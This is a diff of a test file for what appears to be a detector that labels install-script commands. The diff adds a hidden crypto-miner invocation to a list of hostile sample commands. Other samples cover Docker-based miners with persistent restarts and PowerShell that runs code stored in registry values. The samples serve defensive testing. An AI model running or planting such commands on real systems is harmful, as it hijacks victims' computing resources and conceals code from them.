@@ -464,6 +464,7 @@ def test_a_binding_gyp_expansion_that_runs_a_script_cut_out_of_a_test_file():
     ("docker run -d --restart=always --name m -e POOL=pool.example:443 -e WALLET=4FAKE registry.example/x:1",
      "install-script/crypto-miner"),
     ("docker run -d --restart=always --name m registry.example/x:1", "install-script/scheduled-task"),
+    ("/var/tmp/.s -o 198.51.100.77:14444 -u FAKE-WALLET --cpu-max-threads-hint=75 -B", "install-script/crypto-miner"),
     # PowerShell running code it keeps in a registry value (fileless storage)
     ("powershell -nop -c \"IEX (Get-ItemProperty HKCU:\\Software\\Classes\\X).Activator\"", "install-script/registry-code"),
     ("powershell -c \"$b=(gp 'HKCU:\\Software\\X').Blob;iex($b)\"", "install-script/registry-code"),
